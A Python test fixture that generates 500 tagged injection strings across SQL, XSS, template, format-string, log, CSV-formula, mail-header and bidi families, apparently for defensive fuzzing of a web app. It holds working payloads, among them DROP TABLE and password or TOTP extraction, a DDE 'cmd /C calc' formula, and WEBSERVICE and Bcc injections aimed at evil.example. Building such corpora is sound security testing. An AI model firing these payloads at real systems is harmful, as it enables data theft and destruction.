"""Five hundred things that somebody may type to make a program do something: each with a mark of its own."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from itertools import cycle, islice

TOTAL = 500

_FAMILIES: Mapping[str, tuple[int, Sequence[str], Sequence[str]]] = {
    # name: how many, what is typed, what it is put into
    "sql": (
        75,
        ("' OR '1'='1", "'; DROP TABLE lead; --", "\"; DELETE FROM message; --", "1); UPDATE lead SET status='closed';--",
         "' UNION SELECT password FROM staff--", "\\'; TRUNCATE audit; --", "%' OR 1=1 --", "' || (SELECT totp FROM staff) || '",
         "'); ATTACH DATABASE '/tmp/x' AS x; --", "$$; DROP TABLE consent; $$", "' AND pg_sleep(9)--", ":name", "?1",
         "E'\\047; DROP TABLE note'", "' OR sqlite_version() LIKE '%"),
        ("{}", "Rosa{}", "Rosa {}", "{} Rosa", "({})"),
    ),
    "html": (
        110,
        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
         "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=csrf></form>",
         "<meta http-equiv=refresh content=0;//evil.example>", "<base href=//evil.example>", "<link rel=stylesheet href=//e.example>",
         "<style>*{{display:none}}</style>".replace("{{", "{").replace("}}", "}"), "<!--", "-->", "<![CDATA[", "&lt;b&gt;",
         "&#60;script&#62;", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<button hx-post=/desk/staff>x</button>",
         "<x hx-get=/desk/ hx-trigger=load>", "<input autofocus onfocus=alert(1)>", "</title><script>alert(1)</script>",
         "</textarea><script>alert(1)</script>"),
        ("{}", "\">{}", "'>{}", "`{}", "</p>{}"),
    ),
    "markdown": (
        50,
        ("*bold*", "_it_", "[x](http://evil.example)", "`code`", "```\nblock\n```", "||spoiler||", "~~gone~~", "![x](//e.example/p.png)",
         "> quote", "# head", "tg://user?id=1", "@everyone", "<b>bold", "\\*", "[x]: javascript:alert(1)"),
        ("{}", "Rosa {}", "{} {}"),
    ),
    "template": (
        65,
        ("{{ 7 * 7 }}", "{% for x in [1] %}{{ x }}{% endfor %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
         "<%= 7*7 %>", "{{ me.member.totp }}", "{# gone #}", "{% raw %}", "{% include 'staff.html' %}", "{name}", "{reference}",
         "{link}", "{{name}}", "{0.__class__}"),
        ("{}", "Rosa {}", "{}{}", "a{}b"),
    ),
    "format": (
        45,
        ("%s%s%s%n", "%(name)s", "%x%x%x", "%99999999s", "{}", "{0}", "{!r}", "{:>99999999}", "{name.__init__.__globals__}", "$name",
         "${name}", "%%", "{", "}", "\\N{BULLET}"),
        ("{}", "Rosa {}", "{} {}"),
    ),
    "log": (
        30,
        ("\r\n2026-11-22 10:00:00 CRITICAL bot all is lost", "\n{\"levelname\": \"CRITICAL\"}", "\x1b[2J\x1b[31mred", "\x85next line",
         "\u2028next line", "\x0bnext line", "\x00cut", "\r overwritten", "\b\b\b\b", "\x07"),
        ("Rosa{}", "{}Rosa", "a{}b"),
    ),
    "csv": (
        55,
        ("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1",
         "\r=1+1", "＝1+1", "＋1", "－1", "＠A1", "=WEBSERVICE(\"http://evil.example\")", "\",=1+1,\"", ";=1+1;", "\u200b=1+1", "%0A-1+1",
         "=DDE(\"cmd\";\"/C calc\")"),
        ("{}", " {}", "\n{}", "'{}"),
    ),
    "mail": (
        40,
        ("\r\nBcc: spy@evil.example", "\nCc: spy@evil.example", "\rTo: spy@evil.example", "%0d%0aBcc: spy@evil.example",
         "\r\n\r\nanother body", "\r\nContent-Type: text/html", "\r\n.\r\nMAIL FROM:<x@evil.example>", "\nX-Injected: yes",
         "=?utf-8?q?=0ABcc:_spy=40evil.example?=", "\r\nSubject: another"),
        ("Rosa{}", "rosa@example.org{}", "{}", "<rosa@example.org>{}"),
    ),
    "bidi": (
        30,
        ("\u202eevil\u202c", "\u2066x\u2069", "\u200f\u200e", "\u202a\u202b", "مرحبا\u202eabc", "a\u0000b", "\ufeff", "\u200b\u200b",
         "Z̷̛͖a̸l̴g̵o̶", "\ufff9a\ufffab\ufffb"),
        ("Rosa{}", "{} Rosa", "a{}b"),
    ),
}  # fmt: skip


def payloads(most: int = TOTAL) -> list[str]:
    """The same ones each time, of every family as near its share as ``most`` allows; no two alike."""
    made: list[str] = []
    for family, (number, typed, inside) in _FAMILIES.items():
        forms = (frame.replace("{}", one) for frame in inside for one in typed)
        share = max(1, number * most // TOTAL)
        made += [f"{one} {mark(family, n)}" for n, one in enumerate(islice(cycle(list(forms)), share))]
    return made


def mark(family: str, number: int) -> str:
    """By which what became of one is found again. It stands behind, and closes nothing."""
    return f"zq{family}{number:03}"


MARK = "zq"
